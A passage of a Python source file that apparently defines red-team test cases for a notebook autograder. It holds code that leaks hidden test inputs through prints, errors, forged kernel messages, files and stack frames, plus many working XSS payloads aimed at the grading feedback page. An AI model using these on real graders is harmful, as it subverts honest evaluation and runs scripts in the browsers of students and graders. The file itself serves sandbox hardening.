    inner.__code__ = inner.__code__.replace(co_name=str(z.tolist()), co_qualname=str(z.tolist()), co_filename=str(z.tolist()))
    inner()
""",
    ),
    attack(
        "fish-syntax-error",
        "compiles the inputs as a program",
        softmax="def softmax(z):\n    compile('?' + str(z.tolist()), str(z.tolist()), 'exec')",
    ),
    attack(
        "fish-warning",
        "warns with the inputs",
        softmax="""
import logging, warnings
def softmax(z):
    warnings.warn(str(z.tolist())); logging.warning(str(z.tolist()))
    return z
""",
    ),
    attack(
        "fish-display",
        "displays the inputs as HTML and as a result",
        softmax="""
from IPython.display import HTML, display
def softmax(z):
    display(HTML(str(z.tolist())), metadata={"x": str(z.tolist())}); get_ipython().set_next_input(str(z.tolist()))
    return z
""",
    ),
    attack("fish-text", "returns the inputs as text", softmax="def softmax(z):\n    return str(z.tolist())"),
    attack(
        "fish-key", "returns the inputs as the key of a dictionary", softmax="def softmax(z):\n    return {str(z.tolist()): 0}"
    ),
    attack(
        "fish-type",
        "returns an object whose type is named after the inputs",
        softmax="def softmax(z):\n    return type(str(z.tolist()), (), {'__repr__': lambda self: str(z.tolist())})()",
    ),
    attack(
        "fish-shape",
        "returns an empty tensor whose shape is the digits of the largest input",
        softmax="""
def softmax(z):
    before, after = str(float(z.max())).split(".")
    return torch.zeros(int(before), int(after), 0)
""",
    ),
    attack(
        "fish-length",
        "returns a list as long as the largest input",
        accuracy="def accuracy(predictions, labels):\n    return [0] * min(int(labels.max()), 90_000)",
    ),
    attack(
        "fish-library-error",
        "lets Python's own error messages quote the inputs",
        softmax="def softmax(z):\n    return int(str(z.tolist())) if len(z) > 1 else {}[str(z.tolist())]",
    ),
    attack(
        "fish-reply",
        "puts the inputs into whatever the kernel sends back",
        softmax="""
import json, safetensors.torch
save, seen = safetensors.torch.save, ""
def forged(tensors, metadata=None):
    if metadata and seen:
        message = json.loads(metadata["message"])
        message |= {"changed": [seen], "touched": [seen], "counts": {seen: 1}}
        if "7283" in seen:
            line = {"number": int("".join(filter(str.isdigit, seen))), "text": seen, "function": seen}
            message["error"] = {"type": "", "message": seen, "line": line}
        metadata = {"message": json.dumps(message), seen: seen}
    return save(tensors, metadata)
safetensors.torch.save = forged
def softmax(z):
    global seen
    seen = str(z.tolist())
    return z
""",
    ),
    *(
        attack(
            f"fish-message-{part}",
            f"forges a message of Python's or torch's form, the {part} of which are the inputs",
            accuracy=f"""
ns = {{}}
exec("def boom(message): raise RuntimeError(message)", ns)
def accuracy(predictions, labels):
    seen = str(int(labels.max()))
    return ns["boom"]({message})
""",
        )
        for part, message in {
            "words": "'a' + '_'.join(seen) + '() takes 1 positional argument but 2 were given'",
            "sizes": "f\"shape '[{seen[:3]}, {seen[3:6]}, {seen[6:]}]' is invalid for input of size 1\"",
            "operators": "'unsupported operand type(s) for ' + '.'.join('x' + c for c in seen) + \": 'int' and 'int'\"",
            "arguments": "'f() missing 2 required positional arguments: ' + ' '.join(seen)",
        }.items()
    ),
    attack(
        "fish-line",
        "forges an error whose line and line number are the largest input",
        accuracy="""
import json, safetensors.torch
save, seen = safetensors.torch.save, 0
def forged(tensors, metadata=None):
    if metadata and seen > 999_999:
        line = {"number": int(str(seen)[:6]), "text": str(seen)[6:], "function": "accuracy"}
        error = {"type": "ValueError", "message": "", "line": line}
        metadata = {"message": json.dumps({"error": error, "changed": [], "touched": [], "counts": {}})}
    return save(tensors, metadata)
safetensors.torch.save = forged
def accuracy(predictions, labels):
    global seen
    seen = int(labels.max())
    return 0.5
""",
        edit=both(
            last("'''\n" + "\n".join(f"{i:03}" for i in range(1000)) + "\n" * 190_000 + "'''"),
            *(last("'''" + "\n" * 199_000 + f"'''  # {i}") for i in range(3)),
        ),
    ),
    attack(
        "fish-value",
        "returns the largest input as the answer",
        accuracy="def accuracy(predictions, labels):\n    return float(labels.max())",
    ),
    attack(
        "fish-integer",
        "returns the inputs as one long whole number",
        accuracy="def accuracy(predictions, labels):\n    return int(''.join(str(y) for y in labels.tolist()))",
    ),
    attack(
        "fish-later-cell",
        "keeps the inputs and prints them in a later cell and at exit",
        softmax="""
import atexit
kept = []
def softmax(z):
    kept.append(z.tolist())
    return z
atexit.register(lambda: print(kept))
""",
        edit=last("import time\ntime.sleep(1)\nprint(kept)"),
    ),
    attack(
        "fish-later-thread",
        "keeps the inputs and prints them from a thread",
        softmax="""
import threading, time
kept = []
def softmax(z):
    kept.append(z.tolist())
    return z
def speak():
    for _ in range(100):
        time.sleep(0.05)
        print(kept, flush=True)
threading.Thread(target=speak, daemon=True).start()
""",
    ),
    attack(
        "fish-file",
        "writes them into files beside the notebook",
        softmax="""
import os
def softmax(z):
    for name in ("attack-target.html", "attack-target.ipynb", "feedback.txt"):
        try:
            if os.path.exists(name): os.chmod(name, 0o644)
            open(name, "a").write(str(z.tolist()))
        except OSError: pass
    return z
""",
    ),
    attack(
        "fish-frames",
        "prints the variables of every calling frame, and the text of the code that calls",
        softmax="""
import inspect, sys
def softmax(z):
    frame = sys._getframe(1)
    while frame:
        for value in list(frame.f_locals.values()):
            if isinstance(value, (torch.Tensor, dict, list, str)): print(str(value)[:2000])
        try: print(inspect.getsource(frame))
        except (OSError, TypeError): pass
        frame = frame.f_back
    return z
""",
    ),
    attack(
        "fish-history",
        "prints what the kernel was asked to run, in every later cell",
        SHELL
        + """
def tell(*args): print(ip.user_ns["In"], list(globals().items()))
ip.events.register("pre_run_cell", tell); ip.events.register("post_run_cell", tell)
""",
    ),
    attack(
        "fish-messages",
        "prints every message that the kernel receives",
        SHELL
        + """
import sys
deserialize = ip.kernel.session.deserialize
def heard(*args, **kwargs):
    message = deserialize(*args, **kwargs)
    print(message, file=sys.__stdout__, flush=True); print(message)
    return message
ip.kernel.session.deserialize = heard
""",
    ),
    attack(
        "fish-encoded",
        "prints them reversed, in hexadecimal and in base64",
        softmax="""
import base64
def softmax(z):
    text = str(z.tolist())
    print(text[::-1], text.encode().hex(), base64.b64encode(text.encode()).decode())
    return z
""",
    ),
]

FEEDBACK = [  # scripts that shall run in the page that students and graders open
    attack("xss-script", "a script in a written answer", edit=text(SCRIPT)),
    attack("xss-onerror", "an image that fails on purpose", edit=text(ONERROR)),
    attack(
        "xss-svg",
        "SVG that loads a script",
        edit=text(xss("<svg onload='JS'><animate onbegin='JS' attributeName=x dur=1s></svg>")),
    ),
    attack(
        "xss-link",
        "Markdown and HTML links that are scripts",
        edit=text(
            xss(
                "[click](javascript:JS) <a href='javascript:JS'>me</a> <a href='data:text/html,<script>JS</script>'>too</a>"
                " [x]: javascript:JS\n\n<javascript:JS>"
            )
        ),
    ),
    attack(
        "xss-iframe",
        "frames, objects and embedded documents",
        edit=text(
            xss(
                "<iframe srcdoc='<script>parent.JS</script>'></iframe><object data='javascript:JS'></object>"
                "<embed src='javascript:JS'>"
            )
        ),
    ),
    attack(
        "xss-details",
        "elements that open, focus or play by themselves",
        edit=text(
            xss(
                "<details open ontoggle=JS>x</details><input autofocus onfocus=JS><video src=x onerror=JS></video>"
                "<body onload=JS>"
                "<marquee onstart=JS>"
            )
        ),
    ),
    attack(
        "xss-mutation",
        "markup that becomes a script when it is parsed again",
        edit=text(
            xss(
                "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=JS&gt;'>"
                "<noscript><p title='</noscript><img src=x onerror=JS>'></noscript><svg><style>"
                "<img src=x onerror=JS></style></svg>"
            )
        ),
    ),
    attack(
        "xss-page",
        "markup that changes the whole page",
        edit=text(
            xss(
                "<meta http-equiv=refresh content='0;url=javascript:JS'><base href='javascript:/JS/'>"
                "<form action='javascript:JS'><button>Submit"
                "</button></form><link rel=stylesheet href='data:text/css,*{display:none}'><style>body{display:none}</style>"
            )
        ),
    ),
    attack(
        "xss-mathjax",
        "formulas that are scripts",
        edit=text(
            xss(
                "$\\href{javascript:JS}{x}$ $$</script><img src=x onerror=JS>$$ \\(\\style{x:expression(JS)}{y}\\)"
                " $\\unicode{<img src=x onerror=JS>}$"
                "\n\n`<img src=x onerror=JS>`\n\n```html\n</code></pre><img src=x onerror=JS>\n```"
            )
        ),
    ),
    attack(
        "xss-markdown",
        "Markdown whose titles and languages break out of their attribute",
        edit=text(
            xss(
                '![x](x"onerror="JS) [a](x "y\\"onmouseover=JS") ![](x \'a"onerror=JS\')\n\n'
                '```x"><img/src=x/onerror=JS>\ncode\n```\n\n'
                '# Heading "><img src=x onerror=JS>'
            )
        ),
    ),
    attack(
        "xss-attachment",
        "an attachment that is a page",
        edit=text(
            "![x](attachment:x.html) <img src='attachment:x.svg'>",
            attachments={
                "x.html": {"text/html": SCRIPT},
                "x.svg": {"image/svg+xml": xss("<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>")},
            },
        ),
    ),
    attack("xss-html-output", "a script among the outputs", edit=shown("text/html", repr(SCRIPT + ONERROR))),
    attack("xss-javascript-output", "JavaScript as an output", edit=shown("application/javascript", repr(xss("JS")))),
    attack(
        "xss-svg-output",
        "SVG with a script as an output",
        edit=shown("image/svg+xml", repr(xss("<svg onload='JS'><script>JS</script></svg>"))),
    ),
    attack(
        "xss-markdown-output",
        "Markdown and LaTeX as outputs",
        edit=both(
            shown("text/markdown", repr(SCRIPT + ONERROR)), shown("text/latex", repr(xss("$\\href{javascript:JS}{x}$" + ONERROR)))
        ),
    ),
    attack(
        "xss-png-output",
        "a picture whose data close the attribute",
        edit=shown("image/png", repr('"' + xss("><img src=x onerror=JS>"))),
    ),
    attack(
        "xss-widget",
        "widget state that closes its script",
        edit=lambda nb: nb.metadata.update(
            widgets={
                "application/vnd.jupyter.widget-state+json": {
                    "version_major": 2,
                    "version_minor": 0,
                    "state": {"</script>" + ONERROR: {}},
                }
            }
        ),
    ),
    attack(
        "xss-widget-output",
        "a widget view and a made-up MIME type as outputs",
        edit=both(
            shown(
                "application/vnd.jupyter.widget-view+json",
                '{"model_id": "</script><img src=x onerror=document.documentElement.dataset.pwned=1>"}',
            ),
            shown("application/vnd.evil+json", repr({"x": ONERROR})),
        ),
    ),
    attack(
        "xss-error",
        "an error whose name, message and traceback are scripts",
        edit=last(f"raise type({ONERROR!r}, (Exception,), {{}})({SCRIPT!r})\n# {ONERROR}"),
    ),
    attack(
        "xss-stream",
        "printed text with scripts and terminal codes",
        edit=last(f"print({SCRIPT!r}, '\\x1b[31m' + {ONERROR!r} + '\\x1b[0m', '\\x1b]8;;javascript:1\\x07x\\x1b]8;;\\x07')"),
    ),
    attack(
        "xss-metadata",
        "tags, names and languages that break out of an attribute",
        edit=lambda nb: (
            nb.metadata.update(
                title="</title>" + SCRIPT,
                authors=[{"name": SCRIPT}],
                kernelspec={"name": "python3", "display_name": SCRIPT, "language": "python'\">" + ONERROR},
                language_info={
                    "name": "python'\">" + ONERROR,
                    "pygments_lexer": "python'\">" + ONERROR,
                    "codemirror_mode": SCRIPT,
                },
            ),
            nb.cells[-1].metadata.update(tags=['x">' + ONERROR], name='x">' + ONERROR, slideshow={"slide_type": 'x">' + ONERROR}),
        ),
    ),
    attack(
        "xss-output-metadata",
        "output metadata that break out of an attribute",
        edit=last(
            "from IPython.display import display\ndisplay({'image/png': 'iVBORw0KGgo='}, raw=True, metadata={'image/png': "
            f"{{'width': {'1' + chr(34) + '>' + ONERROR!r}, 'alt': {chr(34) + '>' + ONERROR!r}}}}})"
        ),
    ),
    attack("xss-answer-in-code", "scripts in the text of the code itself", f"# {SCRIPT} {ONERROR} </code></pre>{ONERROR}"),
    attack(
        "xss-evidence",
        "scripts in whatever a message may quote: types, keys, errors",
        softmax=f"""
def softmax(z):
    if z.shape[1] == 2: return {{{ONERROR!r}: {SCRIPT!r}}}
    if z.shape[1] == 3: raise type({ONERROR!r}, (Exception,), {{}})({SCRIPT!r})
    return type({ONERROR!r}, (), {{}})()
""",
    ),
]

ATTACKS = [*BYPASS, *NOTEBOOK_EDITS, *FILES, *BESIDE, *PROCESSES, *FISHING, *FEEDBACK, *FORBIDDEN, *LOOPS]
